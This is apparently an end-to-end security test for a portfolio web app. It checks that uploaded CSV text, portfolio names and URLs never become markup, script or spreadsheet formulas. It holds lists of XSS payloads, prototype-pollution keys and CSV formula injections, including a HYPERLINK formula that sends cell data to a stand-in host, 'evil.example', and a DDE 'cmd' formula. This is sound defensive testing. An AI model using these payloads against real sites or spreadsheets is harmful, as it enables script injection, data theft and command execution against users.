import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { visitForAll, type Visit } from '../../support/browser.ts';
import { openEmpty } from '../../support/keeping.ts';
import { listAddresses } from '../../support/addresses.ts';
import { isAtRest, seeScreen } from '../../support/screens.ts';

/* Text of a file is text, on every screen and in everything that is saved: it never becomes markup, code or a formula. After each
   journey no page may have had a breach of its policy: an attempt that is merely stopped there would be one. */

declare global {
  interface Window {
    /** Set by a text that was run. */
    hurt?: number;
  }
}

const MARKUP = [
  '<img src=x onerror="window.hurt=1">',
  '<script>window.hurt=1</script>',
  '"><svg onload=window.hurt=1>',
  "' autofocus onfocus='window.hurt=1",
  '</textarea></title></style></script><iframe srcdoc="<script>top.hurt=1</script>">',
  '<a href="javascript:window.hurt=1">Apple Inc</a>',
  '<!-- ]]> {@html x} {{constructor.constructor("window.hurt=1")()}} ${window.hurt=1}',
  '&lt;img src=x onerror=window.hurt=1&gt;',
];
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '\t=1+1',
];
const KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '\u202Exnoc'];
const TEXTS = [...MARKUP, ...FORMULAS, ...KEYS];

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
const SHEET = [
  'Account,Symbol,Name,Type,Value,Notes,__proto__',
  ...TEXTS.map((text, at) =>
    [cell(text), `ZQ${at}X`, cell(text), cell(text), `${100 + at}`, cell(text), cell(text)].join(','),
  ),
  ...TEXTS.map((text, at) => ['Known', cell(text), 'Apple Inc', 'Stock', `${200 + at}`, '', ''].join(',')),
  'Known,NVDA,NVIDIA Corp,Stock,5000,,',
].join('\n');
const FILE = `${MARKUP[0]}.csv`;

let visit: Visit;
let page: Page;
visitForAll((begun) => {
  visit = begun;
  ({ page } = begun);
});

/** What has become of the texts in this page: nothing, if all is well. */
const becameOfTexts = (in_: Page) =>
  in_.evaluate(() => {
    const markup =
      'img[src="x"], script:not([src]), iframe, object, embed, base, [onerror], [onload], [onfocus], [href^="javascript:" i], [href*="evil.example"]';
    return { hurt: window.hurt ?? null, markup: [...document.querySelectorAll(markup)].map((one) => one.outerHTML) };
  });
const NOTHING = { hurt: null, markup: [] };

async function save(name: string): Promise<string> {
  await page.getByRole('button', { name: 'Share', exact: true }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('menuitem', { name }).click()]);
  expect(download.suggestedFilename()).toMatch(/^topheavy-[\w-]+\.(?:json|csv|html)$/);
  return readFileSync(await download.path(), 'utf8');
}

test('names of portfolios and households stay texts, where they are shown, chosen and taken back', async () => {
  await openEmpty(visit);
  await page.getByLabel('Paste holdings').fill('Account,Symbol,Value (USD)\nA,NVDA,100\nA,WWW,20');
  await page.getByRole('region', { name: 'Verdict', exact: true }).waitFor();
  await isAtRest(page);
  await seeScreen(page, '/portfolios?dates&history&answers&others');
  const list = page.getByRole('region', { name: 'Portfolios', exact: true });
  let called = 'My portfolio';
  for (const text of [...MARKUP, ...KEYS.slice(0, -1)]) {
    const name = text.slice(0, 80);
    await list.getByRole('button', { name: `Edit ${called}`, exact: true }).click();
    const form = page.getByRole('form', { name: `Edit ${called}`, exact: true });
    await form.getByLabel('Name').fill(name);
    await form.getByLabel('Household').fill(name);
    await form.getByRole('button', { name: 'Save' }).click();
    await list.getByRole('button', { name: `Edit ${name}`, exact: true }).waitFor();
    expect(await becameOfTexts(page), name).toEqual(NOTHING);
    called = name;
    await page.locator('h1').focus();
    await page.keyboard.press('p');
    await page.getByRole('combobox', { name: 'Portfolio', exact: true }).waitFor();
    expect(await becameOfTexts(page), name).toEqual(NOTHING);
    await page.keyboard.press('Escape');
  }
  await page.reload();
  await list.getByRole('button', { name: `Edit ${called}`, exact: true }).click();
  await list.getByRole('button', { name: 'Delete' }).click();
  await page.getByText(`Deleted ${called} and its snapshots.`, { exact: false }).waitFor();
  expect(await becameOfTexts(page)).toEqual(NOTHING);
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
});

test('texts of a file stay texts, on every screen and in all that is saved', async () => {
  await openEmpty(visit);
  await page
    .getByLabel('Holdings files')
    .setInputFiles({ name: FILE, mimeType: 'text/csv', buffer: Buffer.from(SHEET) });
  // half of the symbols are none: it is asked whether these are holdings
  await page.getByRole('button', { name: /^Keep/ }).click();
  await page.getByRole('region', { name: 'Verdict', exact: true }).waitFor();
  await isAtRest(page);
  await seeScreen(page, '/review');
  await page.getByText(FILE).first().waitFor();
  await seeScreen(page, '/sheet');
  await page.getByLabel('Title').fill(MARKUP[0]!);
  await page.getByLabel('Note').fill(MARKUP.join(' '));
  for (const address of listAddresses(true)) {
    await seeScreen(page, address);
    expect(await becameOfTexts(page), address).toEqual(NOTHING);
  }
  for (const text of [...MARKUP, ...KEYS].map(encodeURIComponent)) {
    for (const start of ['/companies/', '/funds/', '/help/', '/companies?q=', '/companies?account='])
      await seeScreen(page, `${start}${text}`);
    expect(await becameOfTexts(page), text).toEqual(NOTHING);
  }
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);

  await seeScreen(page, '/verdict');
  const report = JSON.parse(await save('Download report (JSON)')) as {
    readonly files: readonly { readonly name: string }[];
  };
  expect(report.files.map(({ name }) => name)).toEqual([FILE]);
  for (const name of ['Holdings (CSV)', 'Companies (CSV)']) {
    const { data, errors } = Papa.parse<readonly string[]>(await save(name), { skipEmptyLines: true });
    expect(errors).toEqual([]);
    expect(data.length).toBeGreaterThan(name.startsWith('Holdings') ? TEXTS.length : 2);
    // a number may begin with a minus; anything else that a spreadsheet would work out may not
    expect(data.flat().filter((text) => /^[=+\-@\t\r]/.test(text) && !/^-?[\d.]+$/.test(text))).toEqual([]);
  }
  const context = await page.context().browser()!.newContext();
  const reader = await context.newPage();
  const html = await save('Page with percentages only');
  await reader.route('https://page.example/', (route) =>
    route.fulfill({ body: html, contentType: 'text/html; charset=utf-8' }),
  );
  await reader.goto('https://page.example/');
  await reader.getByRole('heading', { level: 1 }).waitFor();
  expect((await becameOfTexts(reader)).hurt).toBeNull();
  expect(await reader.locator('img[src="x"], iframe, [onerror], [onload], [href^="javascript:"]').count()).toBe(0);
  await context.close();
});
